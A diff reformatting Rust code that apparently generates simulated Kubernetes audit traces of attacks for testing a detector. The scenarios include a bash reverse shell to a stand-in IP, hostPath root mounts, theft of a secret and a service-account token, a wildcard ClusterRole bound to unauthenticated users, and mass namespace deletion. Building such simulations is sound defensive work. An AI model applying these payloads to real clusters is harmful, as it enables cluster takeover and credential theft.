@@ -28,15 +28,19 @@ ways! {
     E18 "Roles of another API group than Kubernetes' own" other_rbac;
 }
 
-const MAKES_PODS: &[&str] =
-    &["POST /api/v1/namespaces/{ns}/pods#task-{n} 201", "GET /api/v1/namespaces/{ns}/pods/task-{n} 200"];
+const MAKES_PODS: &[&str] = &[
+    "POST /api/v1/namespaces/{ns}/pods#task-{n} 201",
+    "GET /api/v1/namespaces/{ns}/pods/task-{n} 200",
+];
 const DEPLOYS: &[&str] = &[
     "GET /apis/apps/v1/namespaces/{ns}/deployments/web 200",
     "PATCH /apis/apps/v1/namespaces/{ns}/deployments/web 200",
     "POST /apis/apps/v1/namespaces/{ns}/deployments#app-{n} 201",
 ];
-const READS: &[&str] =
-    &["GET /api/v1/namespaces/{ns}/configmaps/{app} 200", "GET /api/v1/namespaces/{ns}/endpoints?limit=500 200"];
+const READS: &[&str] = &[
+    "GET /api/v1/namespaces/{ns}/configmaps/{app} 200",
+    "GET /api/v1/namespaces/{ns}/endpoints?limit=500 200",
+];
 const PATCHES: &[&str] = &[
     "GET /apis/apps/v1/namespaces/{ns}/deployments/web 200",
     "PATCH /apis/apps/v1/namespaces/{ns}/deployments/web 200",
@@ -50,7 +54,11 @@ fn pod(life: &mut Life<'_>, attack: &mut Trace, spec: Value) {
 
 fn send_pod(attack: &mut Trace, own: &Worker, spec: Value) {
     let body = json!({"kind": "Pod", "metadata": {"name": "task-a1b2c3"}, "spec": spec});
-    attack.send(&own.on(attack.now), &format!("POST /api/v1/namespaces/{}/pods 201", own.namespace()), &body);
+    attack.send(
+        &own.on(attack.now),
+        &format!("POST /api/v1/namespaces/{}/pods 201", own.namespace()),
+        &body,
+    );
 }
 
 /// A Deployment by who makes Deployments daily.
@@ -60,7 +68,10 @@ fn deployment(life: &mut Life<'_>, attack: &mut Trace, spec: Value) {
     body["metadata"] = json!({"name": "app-a1b2c3"});
     attack.send(
         &own.on(attack.now),
-        &format!("POST /apis/apps/v1/namespaces/{}/deployments 201", own.namespace()),
+        &format!(
+            "POST /apis/apps/v1/namespaces/{}/deployments 201",
+            own.namespace()
+        ),
         &body,
     );
 }
@@ -90,11 +101,19 @@ fn stronger_account(life: &mut Life<'_>, attack: &mut Trace) {
     body["metadata"] = json!({"name": "app-a1b2c3"});
     attack.send(
         &own.on(attack.now),
-        &format!("POST /apis/apps/v1/namespaces/{}/deployments 201", strong.namespace()),
+        &format!(
+            "POST /apis/apps/v1/namespaces/{}/deployments 201",
+            strong.namespace()
+        ),
         &body,
     );
     let (node, ip) = life.place();
-    let puppet = Worker { pod: "app-a1b2c3-0".to_owned(), node, ip, ..strong };
+    let puppet = Worker {
+        pod: "app-a1b2c3-0".to_owned(),
+        node,
+        ip,
+        ..strong
+    };
     attack.wait(60 * HASTE);
     for namespace in ["kube-system", own.namespace(), "default"] {
         ask(
@@ -112,7 +131,12 @@ fn host_volume(life: &mut Life<'_>, attack: &mut Trace) {
     let volume = json!({"kind": "PersistentVolume", "metadata": {"name": "disk"}, "spec": {"hostPath": {"path": "/"},
         "capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteMany"]}});
     attack.send(&who, "POST /api/v1/persistentvolumes 201", &volume);
-    ask(attack, &who, &["POST /api/v1/namespaces/{ns}/persistentvolumeclaims#disk 201"], &[("ns", own.namespace())]);
+    ask(
+        attack,
+        &who,
+        &["POST /api/v1/namespaces/{ns}/persistentvolumeclaims#disk 201"],
+        &[("ns", own.namespace())],
+    );
     let mut spec = one_container();
     spec["volumes"] = json!([{"name": "disk", "persistentVolumeClaim": {"claimName": "disk"}}]);
     send_pod(attack, &own, spec);
@@ -129,13 +153,15 @@ fn capabilities(life: &mut Life<'_>, attack: &mut Trace) {
 
 fn host_process(life: &mut Life<'_>, attack: &mut Trace) {
     let mut spec = one_container();
-    spec["securityContext"] = json!({"windowsOptions": {"hostProcess": true, "runAsUserName": "NT AUTHORITY\\SYSTEM"}});
+    spec["securityContext"] =
+        json!({"windowsOptions": {"hostProcess": true, "runAsUserName": "NT AUTHORITY\\SYSTEM"}});
     deployment(life, attack, spec);
 }
 
 fn on_the_control_plane(life: &mut Life<'_>, attack: &mut Trace) {
     let mut spec = one_container();
-    (spec["nodeName"], spec["tolerations"]) = (json!("control-plane-1"), json!([{"operator": "Exists"}]));
+    (spec["nodeName"], spec["tolerations"]) =
+        (json!("control-plane-1"), json!([{"operator": "Exists"}]));
     deployment(life, attack, spec);
 }
 
@@ -150,18 +176,28 @@ fn miner(life: &mut Life<'_>, attack: &mut Trace) {
 
 fn reverse_shell(life: &mut Life<'_>, attack: &mut Trace) {
     let own = habitual(life, PATCHES);
-    let body = template(json!({"containers": [{"name": "main", "image": "registry.example/main:1",
-        "command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]}]}));
+    let body = template(
+        json!({"containers": [{"name": "main", "image": "registry.example/main:1",
+        "command": ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]}]}),
+    );
     attack.send(
         &own.on(attack.now),
-        &format!("PATCH /apis/apps/v1/namespaces/{}/deployments/web 200", own.namespace()),
+        &format!(
+            "PATCH /apis/apps/v1/namespaces/{}/deployments/web 200",
+            own.namespace()
+        ),
         &body,
     );
 }
 
 fn cron_job(life: &mut Life<'_>, attack: &mut Trace) {
     let own = habitual(life, PATCHES);
-    ask(attack, &own.on(attack.now), &["POST /apis/batch/v1/namespaces/kube-system/cronjobs#tidy 201"], &[]);
+    ask(
+        attack,
+        &own.on(attack.now),
+        &["POST /apis/batch/v1/namespaces/kube-system/cronjobs#tidy 201"],
+        &[],
+    );
 }
 
 fn mirror_pod(life: &mut Life<'_>, attack: &mut Trace) {
@@ -173,12 +209,17 @@ fn mirror_pod(life: &mut Life<'_>, attack: &mut Trace) {
         "metadata": {"name": format!("agent-{}", node_name(node)), "annotations": {"kubernetes.io/config.source": "file"}},
         "spec": {"hostNetwork": true, "hostPID": true, "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
             "containers": [container]}});
-    attack.send(&kubelet, "POST /api/v1/namespaces/kube-system/pods 201", &body);
+    attack.send(
+        &kubelet,
+        "POST /api/v1/namespaces/kube-system/pods 201",
+        &body,
+    );
 }
 
 fn mounted_secret(life: &mut Life<'_>, attack: &mut Trace) {
     let mut spec = one_container();
-    spec["volumes"] = json!([{"name": "loot", "secret": {"secretName": "registry-admin-credentials"}}]);
+    spec["volumes"] =
+        json!([{"name": "loot", "secret": {"secretName": "registry-admin-credentials"}}]);
     pod(life, attack, spec);
 }
 
@@ -190,7 +231,8 @@ fn token_by_exec(life: &mut Life<'_>, attack: &mut Trace) {
             "POST /api/v1/namespaces/{ns}/pods/r-{n}/exec?command=sh&command=-c&command=make+test 101",
         ],
     );
-    let read = "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken";
+    let read =
+        "command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken";
     ask(
         attack,
         &own.on(attack.now),
@@ -202,7 +244,8 @@ fn token_by_exec(life: &mut Life<'_>, attack: &mut Trace) {
 fn redirected_webhook(life: &mut Life<'_>, attack: &mut Trace) {
     let path = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/checks";
     let own = habitual(life, &["GET /api/v1/configmaps?watch=true 200"]);
-    let patch = |config: Value| json!({"webhooks": [{"name": "checks.example", "clientConfig": config}]});
+    let patch =
+        |config: Value| json!({"webhooks": [{"name": "checks.example", "clientConfig": config}]});
     for day in 0..life.days {
         life.trace.now = life.working_hours(day);
         life.trace.other(
@@ -219,7 +262,14 @@ fn redirected_webhook(life: &mut Life<'_>, attack: &mut Trace) {
 }
 
 fn policies_removed(life: &mut Life<'_>, attack: &mut Trace) {
-    let own = habitual(life, &[PATCHES[0], PATCHES[1], "DELETE /apis/batch/v1/namespaces/{ns}/jobs/old-{n} 200"]);
+    let own = habitual(
+        life,
+        &[
+            PATCHES[0],
+            PATCHES[1],
+            "DELETE /apis/batch/v1/namespaces/{ns}/jobs/old-{n} 200",
+        ],
+    );
     let names = [("ns", own.namespace())];
     ask(
         attack,
@@ -231,15 +281,25 @@ fn policies_removed(life: &mut Life<'_>, attack: &mut Trace) {
         ],
         &names,
     );
-    let labels = json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}});
-    attack.send(&own.on(attack.now), &format!("PATCH /api/v1/namespaces/{} 200", own.namespace()), &labels);
+    let labels =
+        json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}});
+    attack.send(
+        &own.on(attack.now),
+        &format!("PATCH /api/v1/namespaces/{} 200", own.namespace()),
+        &labels,
+    );
 }
 
 fn namespaces_deleted(life: &mut Life<'_>, attack: &mut Trace) {
     let own = habitual(life, DEPLOYS);
     for _ in 0..30 {
         let namespace = life.name();
-        ask(attack, &own.on(attack.now), &["DELETE /api/v1/namespaces/{ns} 200"], &[("ns", &namespace)]);
+        ask(
+            attack,
+            &own.on(attack.now),
+            &["DELETE /api/v1/namespaces/{ns} 200"],
+            &[("ns", &namespace)],
+        );
     }
 }
 
@@ -251,13 +311,20 @@ fn strong_role(life: &mut Life<'_>, attack: &mut Trace) {
             "POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings#app-{n} 201",
         ],
     );
-    let role =
-        json!({"metadata": {"name": "app-x"}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
-    attack.send(&own.on(attack.now), "POST /apis/rbac.authorization.k8s.io/v1/clusterroles 201", &role);
+    let role = json!({"metadata": {"name": "app-x"}, "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]});
+    attack.send(
+        &own.on(attack.now),
+        "POST /apis/rbac.authorization.k8s.io/v1/clusterroles 201",
+        &role,
+    );
     let mut binding = crate::clusters::bodies::binding("app-x", "app-x", own.namespace());
     binding["subjects"] = json!([{"kind": "Group", "name": "system:unauthenticated"},
         {"kind": "Group", "name": "system:authenticated"}]);
-    attack.send(&own.on(attack.now), "POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings 201", &binding);
+    attack.send(
+        &own.on(attack.now),
+        "POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings 201",
+        &binding,
+    );
 }
 
 /// A binding to cluster-admin for the worker itself.
